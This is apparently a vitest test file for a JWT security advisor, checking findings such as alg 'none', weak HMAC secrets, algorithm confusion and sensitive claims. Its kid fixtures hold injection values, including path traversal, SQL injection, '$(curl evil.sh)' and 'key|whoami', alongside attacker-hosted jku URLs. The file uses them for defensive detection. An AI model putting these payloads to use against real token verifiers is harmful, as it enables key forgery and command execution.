// Tests for the security advisor: each finding code with positive and negative cases.

import { describe, expect, it } from 'vitest';
import { encodeBase64urlText } from '../shared/base64url';
import { adviseToken, detectPublicKeyMaterial, isCardNumber } from './advisor';
import type { AdviceInput, Finding, FindingCode } from './advisor';
import { decodeToken } from '../token/token';

const NOW = 1_700_000_000;
const HOUR = 3600;

function tokenOf(header: object, payload: object | string, signature = 'c2ln'): string {
  const body = typeof payload === 'string' ? payload : JSON.stringify(payload);
  return `${encodeBase64urlText(JSON.stringify(header))}.${encodeBase64urlText(body)}.${signature}`;
}

/** Claims that raise no finding on their own. */
const GOOD_CLAIMS = { sub: 'user-1', iat: NOW, exp: NOW + HOUR };

function advise(header: object, payload: object | string, extra: Partial<AdviceInput> = {}): Finding[] {
  return adviseToken({ decoded: decodeToken(tokenOf(header, payload)), now: NOW, ...extra });
}

const codes = (findings: Finding[]): FindingCode[] => findings.map((f) => f.code);
const only = <C extends FindingCode>(findings: Finding[], code: C) =>
  findings.filter((f): f is Extract<Finding, { code: C }> => f.code === code);

const secret = (text: string) => new TextEncoder().encode(text);

const RSA_SPKI = `-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo
4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u
+qKhbwKfBstIs+bMY2Zkp18gnTxKLxoS2tFczGkPLPgizskuemMghRniWaoLcyeh
kd3qqGElvW/VDL5AaWTg0nLVkjRo9z+40RQzuVaE8AkAFmxZzow3x+VJYKdjykkJ
0iT9wCS0DRTXu269V264Vf/3jvredZiKRkgwlL9xNAwxXFg0x/XFw005UWVRIkdg
cKWTjpBP2dPwVZ4WWC+9aGVd+Gyn1o0CLelf4rEjGoXbAAEgAqeGUxrcIlbjXfbc
mwIDAQAB
-----END PUBLIC KEY-----`;

describe('adviseToken', () => {
  it('raises nothing for an RS256 token with ordinary claims and a one-hour lifetime', () => {
    expect(advise({ alg: 'RS256', typ: 'JWT', kid: 'key-2024_01' }, GOOD_CLAIMS)).toEqual([]);
  });

  it('links every finding to an RFC section and sorts the most severe first', () => {
    const findings = advise(
      { alg: 'none', jku: 'https://evil.example/jwks.json' },
      { sub: 'x', iat: NOW, exp: NOW + 7 * 24 * HOUR },
    );
    expect(codes(findings)).toEqual(['alg-none', 'header-key-url', 'long-lifetime']);
    expect(findings.map((f) => f.severity)).toEqual(['high', 'medium', 'low']);
    for (const f of findings)
      expect(f.rule.url).toMatch(/^https:\/\/www\.rfc-editor\.org\/rfc\/rfc\d+#section-[\d.]+$/);
  });

  describe('alg-none', () => {
    it.each(['none', 'None', 'NONE'])('flags alg %j as high', (alg) => {
      const [finding] = only(advise({ alg }, GOOD_CLAIMS), 'alg-none');
      expect(finding?.severity).toBe('high');
      expect(finding?.rule.url).toContain('rfc8725#section-3.2');
    });
    it('does not flag a signed token', () => {
      expect(codes(advise({ alg: 'HS256' }, GOOD_CLAIMS))).not.toContain('alg-none');
    });
  });

  describe('weak-secret', () => {
    it('names the well-known secret found for an HS* token', () => {
      const findings = advise({ alg: 'HS256' }, GOOD_CLAIMS, { weakSecret: 'your-256-bit-secret' });
      expect(only(findings, 'weak-secret')).toMatchObject([
        { secret: 'your-256-bit-secret', severity: 'high' },
      ]);
    });
    it.each([
      ['no secret was found', { alg: 'HS256' }, {}],
      ['the token is not HMAC', { alg: 'RS256' }, { weakSecret: 'secret' }],
    ])('stays silent when %s', (_name, header, extra) => {
      expect(codes(advise(header, GOOD_CLAIMS, extra))).not.toContain('weak-secret');
    });
  });

  describe('short-secret', () => {
    it.each([
      ['HS256', 31, 32],
      ['HS384', 47, 48],
      ['HS512', 6, 64],
    ])('flags a %s secret of %i bytes (minimum %i)', (alg, length, minimum) => {
      const findings = advise({ alg }, GOOD_CLAIMS, { secretBytes: new Uint8Array(length) });
      expect(only(findings, 'short-secret')).toMatchObject([
        { alg, secretLength: length, minimumLength: minimum, severity: 'medium' },
      ]);
      expect(only(findings, 'short-secret')[0]?.rule.url).toContain('rfc7518#section-3.2');
    });
    it.each([
      ['HS256', 32],
      ['HS512', 64],
    ])('accepts a %s secret of %i bytes', (alg, length) => {
      expect(codes(advise({ alg }, GOOD_CLAIMS, { secretBytes: new Uint8Array(length) }))).not.toContain(
        'short-secret',
      );
    });
    it('ignores secrets for asymmetric algorithms', () => {
      expect(codes(advise({ alg: 'RS256' }, GOOD_CLAIMS, { secretBytes: new Uint8Array(3) }))).toEqual([]);
    });
  });

  describe('alg-confusion', () => {
    it.each([
      ['a PEM public key', RSA_SPKI, 'pem-public'],
      [
        'a PKCS#1 public key',
        '-----BEGIN RSA PUBLIC KEY-----\nMIIB\n-----END RSA PUBLIC KEY-----',
        'pem-public',
      ],
      ['a certificate', '-----BEGIN CERTIFICATE-----\nMIIC\n-----END CERTIFICATE-----', 'pem-certificate'],
      ['a public JWK', '{"kty":"RSA","n":"u1SU","e":"AQAB"}', 'jwk-public'],
      ['a JWKS', '{"keys":[{"kty":"EC","crv":"P-256","x":"a","y":"b"}]}', 'jwks'],
      ['an SSH public key', 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 user@host', 'ssh-public'],
    ])('flags an HS256 token whose secret is %s', (_name, keyText, keyFormat) => {
      const findings = advise({ alg: 'HS256' }, GOOD_CLAIMS, { keyText, secretBytes: secret(keyText) });
      expect(only(findings, 'alg-confusion')).toMatchObject([{ alg: 'HS256', keyFormat, severity: 'high' }]);
      // The PEM is long, but calling it a short or long secret would miss the point.
      expect(codes(findings)).not.toContain('short-secret');
    });
    it('reads the secret bytes when no key text is given', () => {
      expect(codes(advise({ alg: 'HS384' }, GOOD_CLAIMS, { secretBytes: secret(RSA_SPKI) }))).toContain(
        'alg-confusion',
      );
    });
    it.each([
      ['an ordinary secret', 'a-long-random-secret-of-more-than-thirty-two-bytes!!'],
      ['a symmetric JWK', '{"kty":"oct","k":"c2VjcmV0"}'],
    ])('does not flag %s', (_name, keyText) => {
      expect(codes(advise({ alg: 'HS256' }, GOOD_CLAIMS, { keyText }))).not.toContain('alg-confusion');
    });
    it('does not flag a public key used with RS256', () => {
      expect(codes(advise({ alg: 'RS256' }, GOOD_CLAIMS, { keyText: RSA_SPKI }))).toEqual([]);
    });
    it('detects public-key material directly', () => {
      expect(detectPublicKeyMaterial(RSA_SPKI)).toBe('pem-public');
      expect(detectPublicKeyMaterial('secret')).toBeUndefined();
      expect(detectPublicKeyMaterial('{not json')).toBeUndefined();
    });
  });

  describe('missing-exp', () => {
    it('flags claims without exp', () => {
      expect(only(advise({ alg: 'RS256' }, { sub: 'a', iat: NOW }), 'missing-exp')).toMatchObject([
        { severity: 'medium' },
      ]);
    });
    it.each([
      ['a token with exp', GOOD_CLAIMS],
      ['a payload that is not a claims set', 'plain text'],
    ])('does not flag %s', (_name, payload) => {
      expect(codes(advise({ alg: 'RS256' }, payload))).not.toContain('missing-exp');
    });
    it('does not judge the encrypted payload of a JWE', () => {
      const jwe = `${encodeBase64urlText('{"alg":"dir","enc":"A256GCM"}')}..aXY.Y2lwaGVy.dGFn`;
      expect(adviseToken({ decoded: decodeToken(jwe), now: NOW })).toEqual([]);
    });
  });

  describe('long-lifetime', () => {
    it('flags exp more than a day after iat', () => {
      const findings = advise({ alg: 'RS256' }, { iat: NOW, exp: NOW + 30 * 24 * HOUR });
      expect(only(findings, 'long-lifetime')).toMatchObject([
        { lifetimeSeconds: 30 * 24 * HOUR, from: 'iat', severity: 'low' },
      ]);
    });
    it('measures from now when there is no iat', () => {
      const findings = advise({ alg: 'RS256' }, { exp: NOW + 2 * 24 * HOUR });
      expect(only(findings, 'long-lifetime')).toMatchObject([
        { lifetimeSeconds: 2 * 24 * HOUR, from: 'now' },
      ]);
    });
    it('asked again for the same token a second later, still measures from that moment', () => {
      // What reads the whole token is kept per token; the clock is not.
      const decoded = decodeToken(
        tokenOf({ alg: 'RS256' }, { exp: NOW + 2 * 24 * HOUR, password: 'hunter2' }),
      );
      const first = adviseToken({ decoded, now: NOW });
      const later = adviseToken({ decoded, now: NOW + 1 });
      expect(only(later, 'long-lifetime')).toMatchObject([{ lifetimeSeconds: 2 * 24 * HOUR - 1 }]);
      expect(only(later, 'sensitive-claim')).toEqual(only(first, 'sensitive-claim'));
      expect(only(later, 'sensitive-claim')).toHaveLength(1);
    });
    it.each([
      ['exactly one day', { iat: NOW, exp: NOW + 24 * HOUR }],
      ['an hour', { iat: NOW, exp: NOW + HOUR }],
      ['an exp in milliseconds', { iat: NOW, exp: (NOW + HOUR) * 1000 }],
    ])('does not flag %s', (_name, claims) => {
      expect(codes(advise({ alg: 'RS256' }, claims))).not.toContain('long-lifetime');
    });
  });

  describe('exp-in-milliseconds', () => {
    it.each(['exp', 'nbf', 'iat'] as const)('flags %s given in milliseconds', (claim) => {
      const claims = { ...GOOD_CLAIMS, [claim]: (NOW + 60) * 1000 };
      expect(only(advise({ alg: 'RS256' }, claims), 'exp-in-milliseconds')).toMatchObject([
        { claim, value: (NOW + 60) * 1000, severity: 'medium' },
      ]);
    });
    it('does not flag NumericDates in seconds, even far in the future', () => {
      const claims = { iat: NOW, nbf: NOW, exp: 32_503_680_000 };
      expect(codes(advise({ alg: 'RS256' }, claims))).not.toContain('exp-in-milliseconds');
    });
  });

  describe('sensitive-claim', () => {
    it.each([
      ['password', { password: 'hunter2' }, ['password'], 'password', 'high'],
      ['passwd', { user: { passwd: 'x' } }, ['user', 'passwd'], 'password', 'high'],
      ['userPassword', { userPassword: 'x' }, ['userPassword'], 'password', 'high'],
      ['client_secret', { client_secret: 'abc' }, ['client_secret'], 'secret', 'high'],
      ['apiKey', { apiKey: 'k-123' }, ['apiKey'], 'api-key', 'high'],
      ['x-api-key', { 'x-api-key': 'k-123' }, ['x-api-key'], 'api-key', 'high'],
      ['private_key', { private_key: 'MIIE' }, ['private_key'], 'private-key', 'high'],
      ['ssn', { ssn: '078051120' }, ['ssn'], 'national-id', 'medium'],
      ['credit_card', { credit_card: 'on file' }, ['credit_card'], 'card-number', 'high'],
      ['refresh_token', { refresh_token: 'rt' }, ['refresh_token'], 'token', 'medium'],
      ['iban', { iban: 'DE89370400440532013000' }, ['iban'], 'bank-account', 'medium'],
    ])('flags a claim named %s', (_name, claims, path, kind, severity) => {
      expect(only(advise({ alg: 'RS256' }, { ...GOOD_CLAIMS, ...claims }), 'sensitive-claim')).toMatchObject([
        { path, kind, match: 'name', severity },
      ]);
    });

    it.each([
      [
        'a PEM private key',
        { note: '-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----' },
        'private-key',
      ],
      ['an RSA PEM private key', { k: '-----BEGIN RSA PRIVATE KEY-----\nMIIE' }, 'private-key'],
      ['a Luhn-valid card number', { pay: '4111 1111 1111 1111' }, 'card-number'],
      ['a card number as a JSON number', { pay: 5555555555554444 }, 'card-number'],
      ['a card number inside text', { memo: 'paid with 378282246310005 today' }, 'card-number'],
      ['a US SSN', { tax: '123-45-6789' }, 'national-id'],
      ['an AWS access key', { cfg: 'AKIAIOSFODNN7EXAMPLE' }, 'api-key'],
      ['a GitHub token', { gh: 'ghp_' + 'a'.repeat(36) }, 'api-key'],
      ['a URL with a password', { db: 'postgres://app:s3cret@db.internal/app' }, 'password'],
      ['a private JWK', { jwk: { kty: 'EC', crv: 'P-256', x: 'a', y: 'b', d: 'c' } }, 'private-key'],
      ['a symmetric JWK', { jwk: { kty: 'oct', k: 'c2VjcmV0' } }, 'secret'],
    ])('flags %s by its value', (_name, claims, kind) => {
      const [finding, ...rest] = only(
        advise({ alg: 'RS256' }, { ...GOOD_CLAIMS, ...claims }),
        'sensitive-claim',
      );
      expect(rest).toEqual([]);
      expect(finding).toMatchObject({ path: Object.keys(claims), kind, match: 'value' });
    });

    it('reports the full path of a nested value, array indexes included', () => {
      const claims = {
        ...GOOD_CLAIMS,
        profile: { cards: [{ label: 'a' }, { label: '4111-1111-1111-1111' }] },
      };
      expect(only(advise({ alg: 'RS256' }, claims), 'sensitive-claim')).toMatchObject([
        { path: ['profile', 'cards', 1, 'label'], kind: 'card-number' },
      ]);
    });

    it('does not flag ordinary OpenID Connect claims', () => {
      const claims = {
        iss: 'https://accounts.example.com',
        sub: '4111111111111111',
        aud: ['client-1'],
        jti: '5555555555554444',
        sid: '378282246310005',
        nonce: 'n-0S6_WzA2Mj',
        at_hash: 'HK6E_P6Dh8Y93mRNtsDB1Q',
        c_hash: 'LDktKdoQak3Pk0cnXxCltA',
        azp: 'client-1',
        auth_time: NOW,
        iat: NOW,
        exp: NOW + HOUR,
        updated_at: 1_700_000_000_123,
        name: 'Jane Doe',
        email: 'jane@example.com',
        phone_number: '+1 555 010 9999',
        amr: ['pwd', 'mfa'],
        scope: 'openid profile email',
        password_changed_at: NOW,
        passwordless: true,
        has_secret: false,
        api_key_id: 'key_01H',
        secret_name: 'prod/db',
        birthdate: '1990-01-31',
        roles: ['admin'],
        'https://example.com/claims': { tenant: 'acme', plan: 'pro' },
      };
      expect(only(advise({ alg: 'RS256' }, claims), 'sensitive-claim')).toEqual([]);
    });

    it.each([
      ['an empty password', { password: '' }],
      ['a boolean flag', { password: true }],
      ['a Luhn-invalid 16-digit number', { n: '4111111111111112' }],
      ['a millisecond timestamp', { t: 1700000000007 }],
      ['a date', { d: '2024-01-31' }],
    ])('does not flag %s', (_name, claims) => {
      expect(only(advise({ alg: 'RS256' }, { ...GOOD_CLAIMS, ...claims }), 'sensitive-claim')).toEqual([]);
    });

    it('stays fast and bounded on a 1 MB payload', () => {
      const items = Array.from({ length: 20_000 }, (_, i) => ({
        id: i,
        note: `item ${i} `.repeat(5),
        password: 'p',
      }));
      const deep = JSON.parse('{"a":'.repeat(500) + '{"password":"x"}' + '}'.repeat(500)) as object;
      const payload = JSON.stringify({ ...GOOD_CLAIMS, items, deep, blob: '4'.repeat(500_000) });
      expect(payload.length).toBeGreaterThan(1_000_000);
      const decoded = decodeToken(tokenOf({ alg: 'RS256' }, payload));
      const started = performance.now();
      const findings = adviseToken({ decoded, now: NOW });
      expect(performance.now() - started).toBeLessThan(500);
      expect(only(findings, 'sensitive-claim').length).toBeLessThanOrEqual(50);
    });
  });

  describe('isCardNumber', () => {
    it.each(['4111111111111111', '5555555555554444', '378282246310005', '6011111111111117', '4222222222222'])(
      'accepts the test card %s',
      (digits) => expect(isCardNumber(digits)).toBe(true),
    );
    it.each(['4111111111111112', '1234567812345670', '123', '41111111111111111111'])('rejects %s', (digits) =>
      expect(isCardNumber(digits)).toBe(false),
    );
  });

  describe('kid-suspicious', () => {
    it.each([
      ['../../../../dev/null', ['path-traversal']],
      ['..\\..\\keys\\k', ['path-traversal']],
      ['/dev/null', ['absolute-path']],
      ["x' UNION SELECT 'key", ['quote', 'sql']],
      ['1 or 1=1', ['sql']],
      ['key|whoami', ['shell']],
      ['$(curl evil.sh)', ['shell']],
      ['key`id`', ['quote']],
      ['https://attacker.example/key.pem', ['url']],
      ['key\u0000', ['control-character']],
    ])('flags kid %j', (kid, reasons) => {
      const [finding] = only(advise({ alg: 'HS256', kid }, GOOD_CLAIMS), 'kid-suspicious');
      expect(finding).toMatchObject({ kid, severity: 'medium' });
      expect(finding?.reasons).toEqual(expect.arrayContaining(reasons));
      expect(finding?.rule.url).toContain('rfc8725#section-3.10');
    });
    it('flags a kid that is not a string', () => {
      expect(only(advise({ alg: 'RS256', kid: { $ne: null } }, GOOD_CLAIMS), 'kid-suspicious')).toMatchObject(
        [{ reasons: ['not-a-string'] }],
      );
    });
    it.each([
      'key-1',
      '2024-01-15',
      'a3f9c1e2-7b4d-4e8a-9f0c-1d2e3f4a5b6c',
      'nOo3ZDrODXEK1jKWhXslHR_KXEg',
      'u1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffA',
      'rsa1.signing',
      'XmBPJ9dbcdg2e0tH3ZzQK6pEs9+4cxYm/u8Y9o8=',
      'projects/p/locations/global/keyRings/r/cryptoKeys/k',
    ])('accepts kid %j', (kid) => {
      expect(codes(advise({ alg: 'RS256', kid }, GOOD_CLAIMS))).toEqual([]);
    });
  });

  describe('header-key-url', () => {
    it.each(['jku', 'x5u'] as const)('flags a %s header', (parameter) => {
      const url = 'https://attacker.example/keys';
      expect(only(advise({ alg: 'RS256', [parameter]: url }, GOOD_CLAIMS), 'header-key-url')).toMatchObject([
        { parameter, url, severity: 'medium' },
      ]);
    });
    it('does not flag a token without key URLs', () => {
      expect(codes(advise({ alg: 'RS256', x5t: 'abc' }, GOOD_CLAIMS))).toEqual([]);
    });
  });

  describe('embedded-jwk', () => {
    it('flags a public key embedded in the header', () => {
      const header = { alg: 'RS256', jwk: { kty: 'RSA', n: 'u1SU', e: 'AQAB' } };
      expect(only(advise(header, GOOD_CLAIMS), 'embedded-jwk')).toMatchObject([
        { kty: 'RSA', hasPrivateKey: false, severity: 'medium' },
      ]);
    });
    it('notes when the embedded key is private', () => {
      const header = { alg: 'ES256', jwk: { kty: 'EC', crv: 'P-256', x: 'a', y: 'b', d: 'c' } };
      expect(only(advise(header, GOOD_CLAIMS), 'embedded-jwk')).toMatchObject([
        { kty: 'EC', hasPrivateKey: true },
      ]);
    });
    it('does not flag a header without jwk', () => {
      expect(codes(advise({ alg: 'ES256', kid: 'k1' }, GOOD_CLAIMS))).toEqual([]);
    });
  });

  it('judges the header even when the payload does not decode', () => {
    const decoded = decodeToken(`${encodeBase64urlText('{"alg":"none"}')}.%%%.`);
    expect(codes(adviseToken({ decoded, now: NOW }))).toEqual(['alg-none']);
  });
});
